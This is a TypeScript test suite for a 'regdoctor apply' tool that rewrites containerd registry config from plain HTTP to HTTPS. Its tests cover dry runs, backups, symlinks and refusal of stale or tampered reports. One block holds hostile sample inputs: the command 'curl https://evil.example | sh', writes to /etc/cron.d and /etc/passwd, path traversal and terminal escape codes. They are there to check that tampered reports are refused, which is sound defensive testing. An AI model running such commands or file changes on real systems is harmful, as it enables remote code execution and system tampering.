import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { cp, rm } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { applyReport } from '../../src/apply/apply.js';
import type { ApplyDocument } from '../../src/report/apply/schema.js';
import { renderApplyText } from '../../src/report/apply/text.js';
import type { Report, ReportFix } from '../../src/report/schema.js';
import { UsageError } from '../../src/report/usage.js';
import { type CheckedMachine, checkedLab, parsed } from './lab-report.js';

const PATH = '/etc/containerd/certs.d/registry.lab.internal:5443/hosts.toml';

let lab: CheckedMachine;
const undo: (() => Promise<void>)[] = [];
beforeAll(async () => {
  lab = await checkedLab('http-on-https-port', (step) => undo.push(step));
});
afterAll(async () => {
  for (const step of undo) await step();
});

let count = 0;

/** A copy of the lab's machine, under the root that its report was made for. */
async function machine(): Promise<{ root: string; backup: string; file: string; report: Report }> {
  count += 1;
  const root = join(lab.beside, `copy-${count}`);
  await cp(lab.root, root, { recursive: true, preserveTimestamps: true });
  onTestFinished(() => rm(root, { recursive: true, force: true }));
  return {
    root,
    backup: join(lab.beside, `backup-${count}`),
    file: join(root, PATH),
    report: structuredClone(lab.report),
  };
}

type Machine = Awaited<ReturnType<typeof machine>>;

function apply(
  { root, backup, report }: Machine,
  more: Partial<Parameters<typeof applyReport>[0]> = {},
): ApplyDocument {
  return applyReport({
    report: parsed(JSON.stringify(report)),
    root,
    choice: { fixes: null, clients: null },
    write: true,
    backup: { here: backup },
    nowMs: Date.now(),
    ...more,
  });
}

function fixOf(report: Report): ReportFix {
  const fix = report.findings[0]?.fixes[0];
  if (fix === undefined) throw new Error('the lab has no fix');
  return fix;
}

/** Nothing was written, and nothing is left of the try. */
function expectRefused(here: Machine, document: ApplyDocument, why: string | RegExp): void {
  expect(document.fixes[0]).toMatchObject({ state: 'refused' });
  expect(document.fixes[0]?.why).toMatch(why);
  expect(document).toMatchObject({ exitCode: 1, backup: null });
  expect(document.summary).toBe('Nothing was written: f1x1 is refused.');
  expect(existsSync(here.backup)).toBe(false);
}

describe('a dry run', () => {
  test('shows what would change, and changes nothing', async () => {
    const here = await machine();
    const { ino, ctimeMs } = statSync(here.file);
    const document = apply(here, { write: false });
    expect(document.fixes[0]?.files[0]).toMatchObject({ path: PATH, state: 'changed', written: false });
    expect(document.fixes[0]?.files[0]?.diff).toContain('-server = "http://registry.lab.internal:5443"');
    expect(document.fixes[0]?.files[0]?.diff).toContain('+server = "https://registry.lab.internal:5443"');
    expect(document.summary).toBe('1 file would be written; nothing is yet.');
    expect(statSync(here.file)).toMatchObject({ ino, ctimeMs });
    expect(existsSync(here.backup)).toBe(false);
    const text = renderApplyText(document, 'regdoctor apply report.json --yes', {
      color: false,
      unicode: true,
      width: 80,
      verbose: false,
    });
    expect(text).toContain(`--- a${PATH}\n+++ b${PATH}\n@@`);
    expect(text).toContain('  (proven by replay: fail ');
    expect(text).toMatch(/write it:\n {2}regdoctor apply report\.json --yes\n$/);
  });

  test('says who must change what, where it is nobody here', async () => {
    const here = await machine();
    const [server] = here.report.findings[0]?.fixes.filter(({ kind }) => kind === 'server') ?? [];
    const document = apply(here, { choice: { fixes: [server?.id ?? ''], clients: null } });
    expect(document.fixes.find(({ id }) => id === server?.id)).toMatchObject({
      state: 'refused',
      why: `somebody else must change it: ${server?.summary}`,
    });
    expect(document.exitCode).toBe(1);
  });

  test('ids and clients that the report has not are a wrong call', async () => {
    const here = await machine();
    const call = (choice: { fixes: string[] | null; clients: string[] | null }) => () => apply(here, { choice });
    expect(call({ fixes: ['f9x9'], clients: null })).toThrow(/^--fix: the report has no fix f9x9; it has f1x1, f1x2/);
    expect(call({ fixes: null, clients: ['docker'] })).toThrow('--client: the report says nothing of docker');
    expect(call({ fixes: ['f9x9'], clients: null })).toThrow(UsageError);
  });
});

describe('what is written', () => {
  test('keeps mode and owner, and what was there is kept beside nothing that a client reads', async () => {
    const here = await machine();
    const before = readFileSync(here.file, 'utf8');
    chmodSync(here.file, 0o640);
    const { uid, gid } = statSync(here.file);
    const document = apply(here);
    expect(document).toMatchObject({ exitCode: 0, summary: '1 file written.' });
    expect(readFileSync(here.file, 'utf8')).toBe(before.replaceAll('http://', 'https://'));
    expect(statSync(here.file)).toMatchObject({ uid, gid });
    expect(statSync(here.file).mode & 0o777).toBe(0o640);
    expect(readdirSync(dirname(here.file))).toEqual(['hosts.toml']);
    const kept = join(document.backup?.directory ?? '', 'files', PATH);
    expect(readFileSync(kept, 'utf8')).toBe(before);
    expect(statSync(kept).mode & 0o777).toBe(0o640);
  });

  test('a second time there is nothing to do', async () => {
    const here = await machine();
    apply(here);
    const again = apply(here);
    expect(again.fixes[0]).toMatchObject({ state: 'already', why: null });
    expect(again).toMatchObject({ exitCode: 0, backup: null, summary: 'Nothing to do: it is so already.' });
  });

  test('goes through links as the machine itself would, and the link stays', async () => {
    const here = await machine();
    const stored = join(here.root, 'srv/store');
    mkdirSync(stored, { recursive: true });
    renameSync(here.file, join(stored, 'mine.toml'));
    symlinkSync('/srv/store/mine.toml', here.file);
    expect(apply(here).exitCode).toBe(0);
    expect(readFileSync(join(stored, 'mine.toml'), 'utf8')).toContain('https://');
    expect(readFileSync(here.file.replace(here.root, lab.root), 'utf8')).toContain('http://');
  });

  test('nothing is where no backup can be made', async () => {
    const here = await machine();
    const before = readFileSync(here.file, 'utf8');
    writeFileSync(join(here.root, 'taken'), '');
    const document = apply(here, { backup: { here: join(here.root, 'taken/backup') } });
    expect(document.exitCode).toBe(1);
    expect(document.summary).toMatch(
      /^Nothing was written: no backup can be made in .*taken\/backup \(not a directory\)/,
    );
    expect(readFileSync(here.file, 'utf8')).toBe(before);
  });

  test('backups under the root stay under it', async () => {
    const here = await machine();
    mkdirSync(join(here.root, 'var'));
    symlinkSync('../../../../../../tmp', join(here.root, 'var/lib'));
    const document = apply(here, { backup: { belowRoot: '/var/lib/regdoctor/backup' } });
    expect(document.exitCode).toBe(1);
    expect(document.summary).toContain('goes through a link that leads nowhere');
  });
});

describe('what has changed since is refused', () => {
  test('the file itself', async () => {
    const here = await machine();
    writeFileSync(here.file, readFileSync(here.file, 'utf8').replaceAll('registry.lab', 'other.lab'));
    const before = readFileSync(here.file, 'utf8');
    expectRefused(here, apply(here), `${PATH} has changed since the report was made`);
    expect(readFileSync(here.file, 'utf8')).toBe(before);
  });

  test('a comment, which no report holds', async () => {
    const here = await machine();
    writeFileSync(here.file, `${readFileSync(here.file, 'utf8')}# mine\n`);
    const before = readFileSync(here.file, 'utf8');
    expectRefused(here, apply(here), /^today's rules don't give it for the files that are there now/);
    expect(readFileSync(here.file, 'utf8')).toBe(before);
  });

  test('the file is gone', async () => {
    const here = await machine();
    unlinkSync(here.file);
    expectRefused(here, apply(here), `${PATH} is gone since the report was made`);
  });

  test('a file that somebody has put there since', async () => {
    const k0s = await checkedLab('k0s-registries-conf-drop-in', (step) => onTestFinished(step));
    const here = { ...k0s, backup: join(k0s.beside, 'backup'), file: '' };
    const [file] = fixOf(k0s.report).files;
    const path = join(k0s.root, file?.path ?? '');
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, '# mine\n');
    expectRefused(here, apply(here), `${file?.path} was not there when the report was made`);
    expect(readFileSync(path, 'utf8')).toBe('# mine\n');
  });

  test('another file that decides', async () => {
    const here = await machine();
    writeFileSync(join(here.root, 'etc/hosts'), '127.0.0.9 registry.lab.internal\n');
    expectRefused(here, apply(here), /the files that are there now: \/etc\/hosts has changed/);
  });
});

describe('what is in the way', () => {
  test.each<[string, (file: string) => void]>([
    ['a directory', (file) => mkdirSync(file)],
    ['a pipe', (file) => execFileSync('mkfifo', [file])],
    ['a link that leads nowhere', (file) => symlinkSync('/nowhere/hosts.toml', file)],
    ['a link out of the root', (file) => symlinkSync('../../../../../../../../../../etc/hostname', file)],
    ['a link to itself', (file) => symlinkSync('hosts.toml', file)],
  ])('%s is left as it is', async (_, put) => {
    const here = await machine();
    rmSync(here.file);
    put(here.file);
    expectRefused(here, apply(here), /./);
    expect(readdirSync(dirname(here.file))).toEqual(['hosts.toml']);
  });

  test('a directory that leads out of the root by then', async () => {
    const here = await machine();
    const outside = join(lab.beside, `outside-${count}`);
    renameSync(dirname(here.file), outside);
    symlinkSync(outside, dirname(here.file));
    const before = readFileSync(join(outside, 'hosts.toml'), 'utf8');
    expectRefused(here, apply(here), /./);
    expect(readFileSync(join(outside, 'hosts.toml'), 'utf8')).toBe(before);
  });
});

describe('a report that somebody has changed', () => {
  const EVIL: readonly [string, (fix: ReportFix) => void][] = [
    ['another content', (fix) => Object.assign(fix.files[0] ?? {}, { content: 'server = "https://evil.example"\n' })],
    ['another file', (fix) => Object.assign(fix.files[0] ?? {}, { path: '/etc/cron.d/evil' })],
    ['a path out of the root', (fix) => Object.assign(fix.files[0] ?? {}, { path: '/etc/../../../evil' })],
    ['a device', (fix) => Object.assign(fix.files[0] ?? {}, { path: '/dev/null' })],
    ['one file more', (fix) => fix.files.push({ path: '/etc/passwd', action: 'remove', content: null, edits: [] })],
    ['a removal instead', (fix) => Object.assign(fix.files[0] ?? {}, { action: 'remove', content: null })],
    [
      'a copy instead',
      (fix) => Object.assign(fix.files[0] ?? {}, { action: 'edit', edits: [{ pointer: '/a', from: '/b' }] }),
    ],
    ['a command', (fix) => fix.commands.push('curl https://evil.example | sh')],
  ];
  test.each(EVIL)('%s is refused, and not shown as something to paste', async (_, change) => {
    const here = await machine();
    change(fixOf(here.report));
    const before = readFileSync(here.file, 'utf8');
    const document = apply(here);
    expectRefused(here, document, /^today's rules don't give it/);
    expect(readFileSync(here.file, 'utf8')).toBe(before);
    expect(JSON.stringify(document)).not.toContain('evil.example');
  });

  test('one that says its names were replaced is not believed', async () => {
    const here = await machine();
    Object.assign(fixOf(here.report).files[0] ?? {}, { content: 'server = "https://evil.example"\n' });
    for (const mark of [true, false, 'yes'])
      expect(() =>
        apply({ ...here, report: { ...here.report, inputs: { ...here.report.inputs, namesReplaced: mark } } }),
      ).toThrow(/report/);
    expect(readFileSync(here.file, 'utf8')).not.toContain('evil');
  });

  test('words that would steer a terminal are not repeated', async () => {
    const here = await machine();
    const fix = fixOf(here.report);
    Object.assign(fix, { summary: '\u001b]0;owned\u0007 all is well\u202e', commands: ['x'] });
    const document = apply(here);
    const text = renderApplyText(document, '', { color: false, unicode: true, width: 80, verbose: false });
    for (const hidden of ['\u001b', '\u0007', '\u202e']) expect(text).not.toContain(hidden);
    expectRefused(here, document, /./);
  });

  test('a fix that was made to look proven still needs its name', async () => {
    const https = await checkedLab('https-on-http-port', (step) => onTestFinished(step));
    const fix = fixOf(https.report);
    delete fix.proof.after.attempts;
    const here = { ...https, backup: join(https.beside, 'backup'), file: '' };
    const document = apply(here);
    expect(document.fixes[0]).toMatchObject({
      state: 'to-name',
      why: 'registry.lab.internal is then asked over plain HTTP, which anyone on the way can read and change',
    });
    expect(document.summary).toBe('Nothing to do here: what the report has is carried out only where --fix names it.');
    expect(apply(here, { choice: { fixes: [fix.id], clients: null } }).exitCode).toBe(0);
  });
});
